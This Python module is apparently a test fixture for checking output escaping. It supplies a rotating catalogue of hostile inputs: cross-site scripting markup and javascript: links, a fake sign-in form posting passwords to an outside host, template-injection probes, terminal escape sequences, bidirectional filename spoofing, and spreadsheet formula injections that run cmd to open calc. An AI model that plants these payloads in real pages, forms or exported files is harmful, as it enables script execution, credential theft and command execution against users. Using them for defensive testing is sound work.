"""Texts that try to act on whoever reads them: as markup, script, terminal, spreadsheet, or by turning the line around.

Whatever of them runs says so: it calls `owned`, changes the title, opens a dialog or asks `OUTSIDE` for something. Markup
carries the attribute `data-hostile`, so that one element of it in a page is proof that a text was taken for markup.
"""

from __future__ import annotations

from dataclasses import dataclass, field

OUTSIDE = "https://outside.example"
"""Another origin. Nobody may ask it for anything."""
MARK = "data-hostile"
RUN = "window.owned=1;document.title='owned'"

MARKUP = (
    f"<script {MARK}>{RUN}</script>",
    f'<img {MARK} src="{OUTSIDE}/i" onerror="{RUN}">',
    f"<svg {MARK} onload=\"{RUN}\"><script>{RUN}</script><use href='data:image/svg+xml,<svg onload=alert(1)>'/></svg>",
    f'"><b {MARK} onmouseover="{RUN}" autofocus tabindex=0 onfocus="{RUN}">',
    f"' {MARK} onmouseover='{RUN}' x='",
    f"` {MARK} onerror=`{RUN}`",
    f'<a {MARK} href="javascript:{RUN}">sign in again</a>',
    f"<a {MARK} href='data:text/html,<script>{RUN}</script>'>x</a>",
    f'<div {MARK} hx-get="{OUTSIDE}/h" hx-trigger="load" hx-on:click="{RUN}">',
    f'<form {MARK} action="{OUTSIDE}/f"><input name=password><button formaction="{OUTSIDE}/b">Sign in</button></form>',
    f"<iframe {MARK} src={OUTSIDE}/frame srcdoc='<script>{RUN}</script>'></iframe>",
    f"<meta {MARK} http-equiv=refresh content='0;url={OUTSIDE}/m'><base {MARK} href={OUTSIDE}/>",
    f"<link {MARK} rel=stylesheet href={OUTSIDE}/s.css><style {MARK}>@import '{OUTSIDE}/t.css';</style>",
    f"--></script></style></textarea></title></template></noscript><img {MARK} src={OUTSIDE}/c onerror={RUN}>",
    f'</script><script {MARK}>{RUN}</script>", "x": "',
    f"<!--<script {MARK}>{RUN}//--><![CDATA[<i {MARK}>]]>",
    f"<math {MARK}><mtext><table><mglyph><style><img {MARK} src onerror={RUN}>",
    f"![x]({OUTSIDE}/md.png) [y](javascript:{RUN}) <{OUTSIDE}/auto>",
)
SCRIPT = (
    f"javascript:{RUN}",
    f"data:text/html,<script {MARK}>{RUN}</script>",
    "{{7*7}} {% load static %}{% csrf_token %} ${7*7} #{7*7} <%= 7*7 %>",
    f"\u2028{RUN}\u2029\\u003cscript\\u003e",
    f"';{RUN};//\\\";{RUN};//",
    "__proto__ constructor.prototype",
)
TERMINAL = (
    "\x1b[31mred\x1b[0m\x1b[2J\x1b[1;1H gone",
    f"\x1b]8;;{OUTSIDE}/osc\x1b\\link\x1b]8;;\x1b\\ \x1b]0;owned\x07",
    "\x1b]52;c;b3duZWQ=\x07\x9b31m\x08\x08\r over",
)
BIDI = (
    "\u202egpj.exe\u202c \u2066inner\u2069 \u2067txt.\u2069",
    "zero\u200bwidth\u200d\ufeff\u061c\u200f mark",
    "\u05e9\u05dc\u05d5\u05dd (1) \u0645\u0631\u062d\u0628\u0627",
)
FORMULAS = (
    f'=HYPERLINK("{OUTSIDE}/csv","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",
)
LONG = ("W" * 5000, "word " * 1000, "\u0301" * 500 + "x")
PAYLOADS = (*MARKUP, *SCRIPT, *TERMINAL, *BIDI, *FORMULAS)


@dataclass
class Hostile:
    """Hands out payloads in turn, so that neighbouring fields hold different ones and all are used."""

    turn: int = 0
    used: set[str] = field(default_factory=set)

    def text(self, most: int = 1000) -> str:
        """As many payloads as fit into that many characters, beginning with the next one in turn that fits."""
        found = ""
        for _ in range(len(PAYLOADS)):
            payload = PAYLOADS[self.turn % len(PAYLOADS)]
            self.turn += 1
            if len(found) + len(payload) <= most:
                self.used.add(payload)
                found += payload
            elif found:
                self.turn -= 1
                break
        return found or "\u202e<b>"[:most]

    def formula(self) -> str:
        """Begins like a formula, whatever stands before it in the order."""
        self.turn += 1
        payload = FORMULAS[self.turn % len(FORMULAS)]
        self.used.add(payload)
        return payload + self.text(60)
